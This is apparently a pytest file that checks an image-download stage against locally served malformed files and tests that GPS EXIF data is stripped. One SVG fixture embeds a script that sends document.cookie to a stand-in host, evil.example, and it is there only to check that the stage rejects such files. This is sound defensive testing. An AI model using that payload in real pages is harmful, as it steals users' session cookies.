"""A hostile corpus, generated here and served on loopback, through the real download stage into
Postgres: every file ends with the right status and reason, and none of them stops the stage."""

from __future__ import annotations

import io

import numpy as np
import pytest
from cryptography.fernet import Fernet
from fixed_server import Response, serve
from PIL import Image
from sqlalchemy import select
from stage_setup import encode, make_config, seed_candidates
from test_download import blank_png

from harvest.images.exif import read_exif
from harvest.images.privacy import decrypt_private
from harvest.stages.download import run_download
from harvest.state.db import session_scope
from harvest.state.models import Candidate, ImageUrl
from harvest.state.models import Image as ImageRow
from harvest.storage import LocalStore

MB = 1024 * 1024


def photo(seed: int = 0, size: tuple[int, int] = (320, 240)) -> Image.Image:
    """A textured, photo-like picture: smooth colour fields plus noise."""
    rng = np.random.default_rng(seed)
    y, x = np.mgrid[0 : size[1], 0 : size[0]]
    base = np.stack([x * 255 / size[0], y * 255 / size[1], (x + y) * 127 / sum(size)], axis=-1)
    noisy = base + rng.normal(0, 25, base.shape)
    return Image.fromarray(np.clip(noisy, 0, 255).astype(np.uint8))


def gps_jpeg() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Canon"
    exif[0x0110] = "EOS 5D"
    exif[0x0112] = 6  # stored sideways: rotate 90 degrees clockwise to view
    exif[0x013B] = "Jane Doe"
    exif[0x8298] = "CC BY 4.0"
    exif.get_ifd(0x8769).update({0xA431: "SN-0042", 0x9003: "2024:05:01 10:00:00"})
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 22.0, 30.0), 3: "E", 4: (4.0, 53.0, 0.0)})
    return encode(photo(7), "JPEG", exif=exif, quality=90)


def animated_gif() -> bytes:
    frames = [photo(i, (120, 90)).convert("P") for i in range(3)]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    return buffer.getvalue()


def alpha_png() -> bytes:
    image = photo(3).convert("RGBA")
    alpha = np.zeros((240, 320), dtype=np.uint8)
    alpha[40:200, 60:260] = 255
    image.putalpha(Image.fromarray(alpha))
    return encode(image, "PNG")


def sixteen_bit_png() -> bytes:
    ramp = (np.mgrid[0:200, 0:300][1] * 218).astype("<u2") + np.random.default_rng(2).integers(
        0, 2000, (200, 300), dtype="<u2"
    )
    return encode(Image.fromarray(ramp), "PNG")


def truncated_jpeg() -> bytes:
    data = encode(photo(4), "JPEG", quality=90)
    return data[: len(data) // 2]


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="400" height="300">'
    b"<script>fetch('https://evil.example/'+document.cookie)</script>"
    b'<rect width="400" height="300" fill="red"/></svg>'
)
HTML = b"<!DOCTYPE html><html><head><title>403 Forbidden</title></head><body>Forbidden</body></html>"


def corpus() -> dict[str, tuple[Response, str, str | None]]:
    """path -> (what the server answers, expected status, expected reason or None)."""
    return {
        "/bomb.png": (
            Response(blank_png(20_000, 20_000), "image/png"),
            "skipped",
            "decompression bomb",
        ),
        "/truncated.jpg": (Response(truncated_jpeg()), "skipped", "not a decodable image ("),
        "/forbidden.jpg": (
            Response(HTML, "image/jpeg"),
            "skipped",
            "not an image: an HTML page served in its place (Content-Type image/jpeg)",
        ),
        "/empty.jpg": (Response(b""), "skipped", "empty body"),
        "/huge.jpg": (
            Response((50 * MB, b"\xff" * (64 * 1024))),
            "failed",
            f"body of {50 * MB} bytes exceeds cap of {20 * MB}",
        ),
        "/huge-unannounced.jpg": (
            Response((50 * MB, b"\xff" * (64 * 1024)), length=False),
            "failed",
            f"body exceeds cap of {20 * MB} bytes",
        ),
        "/animated.gif": (
            Response(animated_gif(), "image/gif"),
            "skipped",
            "animated GIF (3 frames): only still images are kept",
        ),
        "/script.svg": (
            Response(SVG, "image/svg+xml"),
            "skipped",
            "SVG is not kept: vector markup that can carry scripts (Content-Type image/svg+xml)",
        ),
        "/cmyk.jpg": (Response(encode(photo(5).convert("CMYK"), "JPEG")), "done", None),
        "/deep.png": (Response(sixteen_bit_png(), "image/png"), "done", None),
        "/alpha.png": (Response(alpha_png(), "image/png"), "done", None),
        # served with a misleading type: the bytes decide
        "/photo.webp": (Response(encode(photo(6), "WEBP", quality=80), "image/jpeg"), "done", None),
        "/gps.jpg": (Response(gps_jpeg()), "done", None),
    }


@pytest.fixture
def hostile_run(postgres_url, tmp_path):
    key = Fernet.generate_key().decode()
    items = corpus()
    with serve({path: response for path, (response, _, _) in items.items()}) as base:
        cfg = make_config(
            postgres_url, "manual__hostile", str(tmp_path / "dataset"), HARVEST_METADATA_KEY=key
        )
        seed_candidates(cfg, [base + path for path in items])
        report = run_download(cfg, 0)
    yield cfg, base, items, report, key


def test_every_hostile_file_ends_with_its_status_and_reason(hostile_run):
    cfg, base, items, report, _ = hostile_run
    with session_scope(cfg.database_url) as session:
        rows = {
            url.removeprefix(base): (status, error)
            for url, status, error in session.execute(
                select(Candidate.url, Candidate.status, Candidate.error).where(Candidate.run_id == cfg.run_id)
            )
        }
    for path, (_, status, reason) in items.items():
        got_status, got_error = rows[path]
        assert got_status == status, (path, got_status, got_error)
        if reason is None:
            assert got_error is None, path
        else:
            assert reason in got_error, (path, got_error)
    done = sum(1 for _, status, _ in items.values() if status == "done")
    assert (report.done, report.failed) == (done, 2)
    assert report.skipped == len(items) - done - 2


def test_accepted_files_are_stored_as_downloaded_and_described(hostile_run):
    cfg, base, items, _, key = hostile_run
    with session_scope(cfg.database_url) as session:
        images = {row.first_url.removeprefix(base): row for row in session.scalars(select(ImageRow))}
        urls = {url.removeprefix(base) for url in session.scalars(select(ImageUrl.url))}
    assert set(images) == {path for path, (_, status, _) in items.items() if status == "done"}
    assert urls == set(images)
    staging = LocalStore(cfg.staging)
    for path, row in images.items():
        original = items[path][0].body
        assert staging.get(row.storage_key) == original, f"{path} was re-encoded"
        assert row.phash and len(row.phash) == 16 and row.entropy > 2
    assert (images["/cmyk.jpg"].format, images["/cmyk.jpg"].mode) == ("JPEG", "CMYK")
    assert (images["/deep.png"].mode, images["/deep.png"].has_alpha) == ("I;16", False)
    assert images["/alpha.png"].has_alpha and images["/alpha.png"].mode == "RGBA"
    with Image.open(io.BytesIO(staging.get(images["/alpha.png"].storage_key))) as stored:
        assert stored.getchannel("A").getextrema() == (0, 255)  # transparency kept
    assert images["/photo.webp"].format == "WEBP" and images["/photo.webp"].mime_type == "image/webp"

    gps = images["/gps.jpg"]
    assert gps.orientation == 6 and gps.exif["orientation"] == 6
    assert gps.exif["make"] == "Canon" and gps.exif["date_taken"] == "2024:05:01 10:00:00"
    assert sorted(gps.private_fields) == ["artist", "body_serial_number", "gps"]
    assert "gps" not in gps.exif and "artist" not in gps.exif and "SN-0042" not in str(gps.exif)
    private = decrypt_private(gps.exif_private, key)
    assert private["gps"] == {"latitude": 52.375, "longitude": 4.8833333}
    assert private["artist"] == "Jane Doe" and private["body_serial_number"] == "SN-0042"
    for row in images.values():
        if row is not gps:
            # nothing to remove: the download is its own clean copy
            assert row.private_fields is None and row.clean_key == row.storage_key


def test_the_published_copy_of_a_gps_photo_has_no_private_fields_and_the_same_pixels(hostile_run):
    cfg, base, items, _, _ = hostile_run
    with session_scope(cfg.database_url) as session:
        gps = session.scalars(select(ImageRow).where(ImageRow.first_url == base + "/gps.jpg")).one()
    staging = LocalStore(cfg.staging)
    original, clean = staging.get(gps.storage_key), staging.get(gps.clean_key)
    assert b"SN-0042" in original and b"SN-0042" not in clean and b"Jane Doe" not in clean
    with Image.open(io.BytesIO(original)) as a, Image.open(io.BytesIO(clean)) as b:
        assert np.array_equal(np.asarray(a), np.asarray(b))
        public, private, orientation = read_exif(b)
        assert private == {} and orientation == 6 and public["make"] == "Canon"
        assert b.getexif().get_ifd(0x8825) == {}


def test_without_a_key_private_values_are_not_stored(postgres_url, tmp_path):
    with serve({"/gps.jpg": Response(gps_jpeg())}) as base:
        cfg = make_config(postgres_url, "manual__nokey", str(tmp_path / "dataset"), HARVEST_METADATA_KEY="")
        seed_candidates(cfg, [base + "/gps.jpg"])
        assert run_download(cfg, 0).done == 1
    with session_scope(cfg.database_url) as session:
        row = session.scalars(select(ImageRow)).one()
    assert row.exif_private is None and "gps" in row.private_fields
    assert "52" not in str(row.exif)


def test_inspection_in_worker_processes_gives_the_same_outcome(postgres_url, tmp_path):
    routes = {
        "/bomb.png": Response(blank_png(20_000, 20_000), "image/png"),
        "/forbidden.jpg": Response(HTML),
        "/gps.jpg": Response(gps_jpeg()),
        "/alpha.png": Response(alpha_png(), "image/png"),
    }
    with serve(routes) as base:
        cfg = make_config(postgres_url, "manual__procs", str(tmp_path / "ds"), HARVEST_INSPECT_PROCESSES="2")
        assert cfg.inspect_processes == 2
        seed_candidates(cfg, [base + path for path in routes])
        report = run_download(cfg, 0)
    assert (report.done, report.skipped) == (2, 2)
    with session_scope(cfg.database_url) as session:
        rows = {row.first_url.removeprefix(base): row for row in session.scalars(select(ImageRow))}
    staging = LocalStore(cfg.staging)
    assert staging.get(rows["/alpha.png"].storage_key) == routes["/alpha.png"].body
    assert b"SN-0042" not in staging.get(rows["/gps.jpg"].clean_key)
    assert rows["/gps.jpg"].orientation == 6 and rows["/alpha.png"].has_alpha
